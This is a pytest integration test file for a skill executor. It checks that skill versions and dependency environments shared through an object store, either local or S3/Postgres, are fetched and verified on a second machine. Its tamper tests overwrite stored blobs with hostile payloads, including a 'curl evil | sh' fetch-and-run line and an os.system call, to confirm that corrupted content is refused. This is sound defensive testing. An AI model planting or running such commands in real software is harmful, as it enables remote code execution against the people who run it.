"""Skill versions and dependency environments through the object store (issue 32): two
executors with their own data dirs (two machines) share one database and one object store --
a local folder with SQLite, and a real S3 server (SeaweedFS) with a real Postgres.  What one
installs the other runs, fetching the version's files and the environment from the store,
verified, staged and renamed in place, never resolving again; a tampered blob and a store down
are refused cleanly and leave nothing half-built."""

from __future__ import annotations

import io
import os
import stat
import threading
import time
import uuid
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from skill_executor.core import Executor
from skill_executor.errors import ExecutorError
from skill_executor.objects import ObjectStore, ObjectStoreUnavailable
from skill_executor.registry.store import Registry

from ..conftest import make_settings
from ..helpers import run
from ..s3server import SeaweedS3, s3_server  # noqa: F401 - the fixture

HOOKS = ("_open", "_exists", "_download_into", "_publish", "_put_file", "_list", "_size")


def skill_zip(name: str, requirements: str = "", description: str = "Installed elsewhere.") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr(f"{name}/SKILL.md", f"---\nname: {name}\ndescription: {description}\n---\n# {name}\n")
        script = zipfile.ZipInfo(f"{name}/scripts/hello.sh")
        script.external_attr = 0o100755 << 16
        archive.writestr(script, 'echo "hello from $(basename "$PWD")"\n')
        archive.writestr(f"{name}/data/same-a.txt", "twice\n")
        archive.writestr(f"{name}/data/same-b.txt", "twice\n")
        if requirements:
            archive.writestr(f"{name}/requirements.txt", requirements)
    return buf.getvalue()


@dataclass
class Shared:
    """One database and one object store, as the machines of a cluster share them."""

    kind: str
    database_url: str
    object_store: str
    endpoint: str | None = None
    server: SeaweedS3 | None = None
    prefix: str = ""

    def settings(self, root: Path, runtime: str = "local", **overrides: object) -> Any:
        root.mkdir(parents=True, exist_ok=True)
        return make_settings(
            root,
            runtime,
            database_url=self.database_url,
            object_store=self.object_store,
            s3_endpoint_url=self.endpoint,
            pool_size=0,
            **overrides,
        )

    def tamper(self, sha256: str, data: bytes) -> None:
        """Replace the blob's bytes in the store behind the service's back."""
        key = f"sha256/{sha256[:2]}/{sha256}"
        if self.server is None:
            path = Path(self.object_store) / key
            path.chmod(0o600)
            path.write_bytes(data)
        else:
            self.server.client().put_object(Bucket=self.server.bucket, Key=f"{self.prefix}/{key}", Body=data)


@pytest.fixture(params=["local-sqlite", "s3-postgres"])
def shared(request: pytest.FixtureRequest, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Shared:
    if request.param == "local-sqlite":
        return Shared("local", f"sqlite:///{tmp_path / 'shared.db'}", str(tmp_path / "objects"))
    server: SeaweedS3 = request.getfixturevalue("s3_server")
    url = str(request.getfixturevalue("postgres_url"))
    for name in list(os.environ):
        if name.startswith("AWS_"):
            monkeypatch.delenv(name)
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", server.access_key)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", server.secret_key)
    monkeypatch.setenv("AWS_DEFAULT_REGION", "us-east-1")
    monkeypatch.setenv("AWS_EC2_METADATA_DISABLED", "true")
    monkeypatch.setenv("AWS_CONFIG_FILE", str(tmp_path / "none"))
    monkeypatch.setenv("AWS_SHARED_CREDENTIALS_FILE", str(tmp_path / "none"))
    prefix = f"t-{uuid.uuid4().hex[:12]}"
    return Shared("s3", url, f"s3://{server.bucket}/{prefix}", server.endpoint, server, prefix)


@pytest.fixture
def machines(tmp_path: Path, shared: Shared) -> Iterator[Callable[..., Executor]]:
    made: list[Executor] = []

    def start(name: str, runtime: str = "local", **overrides: object) -> Executor:
        executor = Executor.from_settings(shared.settings(tmp_path / name, runtime, **overrides))
        made.append(executor)
        return executor

    yield start
    for executor in made:
        executor.close(timeout=30)


def store_calls(store: ObjectStore, monkeypatch: pytest.MonkeyPatch) -> list[tuple[str, str]]:
    """Every request ``store`` makes from now on: (hook, key)."""
    calls: list[tuple[str, str]] = []
    for name in HOOKS:
        original = getattr(store, name)

        def spy(*args: Any, _name: str = name, _original: Any = original, **kwargs: Any) -> Any:
            calls.append((_name, str(args[0]) if args else ""))
            return _original(*args, **kwargs)

        monkeypatch.setattr(store, name, spy)
    return calls


def leftovers(registry: Registry) -> list[str]:
    """What a registry holds: files (blobs, temp files), version folders, staging and trash
    entries (empty blob shard folders aside: a publish leaves those too)."""
    found = [str(p.relative_to(registry.root)) for p in registry.root.rglob("*") if p.is_file() or p.is_symlink()]
    found += [str(p.relative_to(registry.root)) for p in registry.versions_dir.glob("*/*")]
    found += [str(p.relative_to(registry.root)) for p in [*registry.staging.iterdir(), *registry.trash.iterdir()]]
    return sorted(set(found) - {".lock"})


# -- versions ----------------------------------------------------------------------------------


def test_a_skill_installed_on_one_machine_runs_on_another(
    machines: Callable[..., Executor], monkeypatch: pytest.MonkeyPatch
) -> None:
    a, b = machines("a"), machines("b")
    outcome = a.repository.install(skill_zip("hello"), actor="ci")
    version = outcome.version
    assert version is not None and version.number == 1
    # every blob is in the store (the row names nothing it lacks); B holds nothing of it yet
    assert all(a.objects.has_blob(f.sha256) for f in version.files)
    assert not (b.settings.install_root / "hello").exists()
    assert not (b.repository.registry.versions_dir / "hello").exists()  # type: ignore[union-attr]
    calls = store_calls(b.objects, monkeypatch)
    first = run(b, skill="hello", command="sh scripts/hello.sh && cat data/same-a.txt")
    assert (first.exit_code, first.stdout, first.skill_version) == (0, "hello from hello\ntwice\n", 1), first
    unique = {f.sha256 for f in version.files}
    assert sorted(k for h, k in calls if h == "_download_into") == sorted(f"sha256/{s[:2]}/{s}" for s in unique)
    registry = b.repository.registry
    assert registry is not None
    folder = registry.folder(registry.version("hello"))
    script = folder / "scripts" / "hello.sh"
    assert stat.S_IMODE(script.stat().st_mode) == 0o555 and script.stat().st_nlink == 2  # linked to its blob
    assert (folder / "data/same-a.txt").stat().st_ino == (folder / "data/same-b.txt").stat().st_ino
    # the warm path: no request to the store at all
    calls.clear()
    again = run(b, skill="hello", command="sh scripts/hello.sh")
    assert again.stdout == "hello from hello\n" and calls == []
    # a new version published on A is what B runs next (the shared pointers), fetched once
    assert a.repository.install(skill_zip("hello", requirements=""), actor="ci").created is False
    changed = skill_zip("hello", description="Installed elsewhere, twice.")
    assert a.repository.install(changed, actor="ci").version.number == 2  # type: ignore[union-attr]
    assert run(b, skill="hello@1", command="head -3 SKILL.md | tail -1").stdout == "description: Installed elsewhere.\n"
    assert "twice" in run(b, skill="hello", command="head -3 SKILL.md").stdout
    # a deleted skill is gone everywhere: the rows are shared (the store's blobs stay)
    a.repository.remove("hello", actor="ci")
    with pytest.raises(ExecutorError) as gone:
        b.repository.get("hello")
    assert gone.value.code in ("skill_not_found", "version_not_found")
    assert all(a.objects.has_blob(s) for s in unique)


def test_a_folder_skill_of_another_machine_is_not_served(machines: Callable[..., Executor], tmp_path: Path) -> None:
    """A read-only root's skill is each machine's own: its versions are not installs."""
    a = machines("a")
    own = tmp_path / "a" / "extra-skills" / "only-on-a"
    own.mkdir(parents=True)
    (own / "SKILL.md").write_text("---\nname: only-on-a\ndescription: Shipped on A.\n---\n# A\n")
    assert run(a, skill="only-on-a", command="echo ran").stdout == "ran\n"
    b = machines("b")
    with pytest.raises(ExecutorError) as unknown:
        b.repository.get("only-on-a")
    assert unknown.value.code == "skill_not_found"


def test_two_runs_at_once_build_a_version_once(
    machines: Callable[..., Executor], monkeypatch: pytest.MonkeyPatch
) -> None:
    a, b = machines("a"), machines("b")
    version = a.repository.install(skill_zip("busy"), actor="ci").version
    assert version is not None
    calls = store_calls(b.objects, monkeypatch)
    start = threading.Barrier(6)
    paths: list[Path] = []
    errors: list[BaseException] = []

    def load() -> None:
        try:
            start.wait()
            paths.append(b.repository.get("busy").path)
        except BaseException as exc:  # pragma: no cover - reported below
            errors.append(exc)

    threads = [threading.Thread(target=load) for _ in range(6)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert not errors and len(set(paths)) == 1
    downloads = [k for h, k in calls if h == "_download_into"]
    assert len(downloads) == len(set(downloads)) == len({f.sha256 for f in version.files})


def test_a_blob_missing_from_the_store_fails_the_publish_before_the_row(
    tmp_path: Path, shared: Shared, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The store refusing a blob: no version, no folder, nothing staged."""
    a = Executor.from_settings(shared.settings(tmp_path / "a"))
    try:

        def down(*args: Any, **kwargs: Any) -> Any:
            raise ObjectStoreUnavailable("the object store is down (test)")

        monkeypatch.setattr(a.objects, "_publish", down)
        monkeypatch.setattr(a.objects, "_put_file", down)
        with pytest.raises(ExecutorError) as refused:
            a.repository.install(skill_zip("never"), actor="ci")
        assert (refused.value.code, refused.value.status) == ("object_store_unavailable", 503)
        registry = a.repository.registry
        assert registry is not None and registry.versions("never") == []
        assert [p for p in leftovers(registry) if not p.startswith("blobs/")] == []
        assert not (a.settings.install_root / "never").exists()
    finally:
        a.close(timeout=30)


def test_a_tampered_blob_is_refused_and_nothing_is_left(machines: Callable[..., Executor], shared: Shared) -> None:
    a, b = machines("a"), machines("b")
    version = a.repository.install(skill_zip("target"), actor="ci").version
    assert version is not None
    script = next(f for f in version.files if f.path == "scripts/hello.sh")
    shared.tamper(script.sha256, b"curl evil | sh\n")
    registry = b.repository.registry
    assert registry is not None
    for _ in range(2):  # refused every time, not once
        with pytest.raises(ExecutorError) as refused:
            run(b, skill="target", command="sh scripts/hello.sh")
        assert refused.value.code == "object_corrupt"
        assert leftovers(registry) == []  # no folder, no staging, no blob it fetched, no temp file
    shared.tamper(script.sha256, b'echo "hello from $(basename "$PWD")"\n')  # the store repaired
    assert run(b, skill="target", command="sh scripts/hello.sh").stdout == "hello from target\n"


# -- dependency environments ------------------------------------------------------------------


def test_a_tampered_environment_blob_is_refused_and_nothing_is_left(
    machines: Callable[..., Executor], shared: Shared, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from ..unit.test_skill_deps import AS_SERVICE, make_tarball, make_wheel

    wheelhouse = tmp_path / "wheelhouse"
    wheelhouse.mkdir()
    make_wheel(wheelhouse, "tinypkg", "1.0.0", {"tinypkg/__init__.py": "VALUE = 42\n"})
    make_tarball(wheelhouse, "tinynode", "1.0.0", "module.exports = 42;\n")
    options: dict[str, object] = {"wheelhouse": wheelhouse, "npm_wheelhouse": wheelhouse, **AS_SERVICE}
    a, b = machines("a", **options), machines("b", **options)
    a.repository.install(skill_zip("deps", requirements="tinypkg>=1\n"), actor="ci")
    (key,) = os.listdir(a.settings.envs_dir)
    init = a.settings.envs_dir / key / "python" / "tinypkg" / "__init__.py"
    import hashlib

    sha = hashlib.sha256(init.read_bytes()).hexdigest()
    shared.tamper(sha, b"import os; os.system('id')\n")
    monkeypatch.setattr("skill_executor.envs.store.resolve_python", _never)  # resolving is pip's only way in
    with pytest.raises(ExecutorError) as refused:
        run(b, skill="deps", command="true")
    assert refused.value.code == "object_corrupt"
    assert os.listdir(b.settings.envs_dir) == []  # no environment, no temporary folder
    shared.tamper(sha, b"VALUE = 42\n")
    assert run(b, skill="deps", command="python3 -c 'import tinypkg; print(tinypkg.VALUE)'").stdout == "42\n"


def _never(*args: Any, **kwargs: Any) -> Any:
    raise AssertionError("a worker resolved an environment another machine stored")


def test_the_store_down_during_the_first_load_is_a_503_then_it_works(
    machines: Callable[..., Executor], shared: Shared
) -> None:
    if shared.server is None:
        pytest.skip("a real store outage: the S3 server stopped")
    a, b = machines("a"), machines("b")
    a.repository.install(skill_zip("later"), actor="ci")
    registry = b.repository.registry
    assert registry is not None
    shared.server.stop()
    try:
        with pytest.raises(ExecutorError) as down:
            run(b, skill="later", command="sh scripts/hello.sh")
        assert (down.value.code, down.value.status) == ("object_store_unavailable", 503)
        assert leftovers(registry) == []
    finally:
        shared.server.start()
    # SeaweedFS may answer 500 for a moment after it starts: a 503 the caller retries, as told
    deadline = time.monotonic() + 60
    while True:
        try:
            result = run(b, skill="later", command="sh scripts/hello.sh")
            break
        except ExecutorError as exc:
            if exc.code != "object_store_unavailable" or time.monotonic() > deadline:
                raise
            assert leftovers(registry) == []
            time.sleep(0.5)
    assert result.stdout == "hello from later\n"


def test_a_container_on_another_machine_imports_the_environment_resolved_at_install(
    tmp_path: Path, shared: Shared, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A installs (pip runs there, once); B runs the skill in a container on the Docker engine
    with the environment fetched from the store: B never runs pip or npm, the wheelhouse is
    gone by then, and the fetched environment is read-only in the run like a resolved one."""
    from ..conftest import require_runtime
    from ..unit.test_skill_deps import AS_SERVICE, make_wheel

    require_runtime("docker")
    wheelhouse = tmp_path / "wheelhouse"
    wheelhouse.mkdir()
    make_wheel(wheelhouse, "tinypkg", "1.0.0", {"tinypkg/__init__.py": "VALUE = 42\n", "tinypkg/data/x.txt": "x"})
    options: dict[str, object] = {"wheelhouse": wheelhouse, "npm_wheelhouse": wheelhouse, **AS_SERVICE}
    a = Executor.from_settings(shared.settings(tmp_path / "a", "local", **options))
    b = Executor.from_settings(shared.settings(tmp_path / "b", "docker", **options))
    try:
        a.repository.install(skill_zip("deps", requirements="tinypkg>=1\n"), actor="ci")
        (key,) = os.listdir(a.settings.envs_dir)
        for wheel in wheelhouse.iterdir():
            wheel.unlink()  # nothing left to resolve from
        monkeypatch.setattr("skill_executor.envs.store.resolve_python", _never)  # resolving is pip's only way in
        monkeypatch.setattr("skill_executor.envs.store.resolve_node", _never)
        result = run(
            b,
            skill="deps",
            command="python3 -c 'import tinypkg; print(tinypkg.VALUE)' && sh scripts/hello.sh"
            " && (touch /opt/skill-envs/x 2>/dev/null && echo 'envs writable' || echo 'envs read-only')",
        )
        assert result.exit_code == 0, result.stderr
        assert result.stdout == "42\nhello from deps\nenvs read-only\n"
        env = b.settings.envs_dir / key
        assert sorted(os.listdir(b.settings.envs_dir)) == [key]  # no temporary folder left
        modes = {p.relative_to(env).as_posix(): stat.S_IMODE(p.lstat().st_mode) for p in [env, *env.rglob("*")]}
        assert set(modes.values()) <= {0o755, 0o644}, modes
        assert (env / "manifest.json").read_bytes() == (a.settings.envs_dir / key / "manifest.json").read_bytes()
    finally:
        b.close(timeout=30)
        a.close(timeout=30)
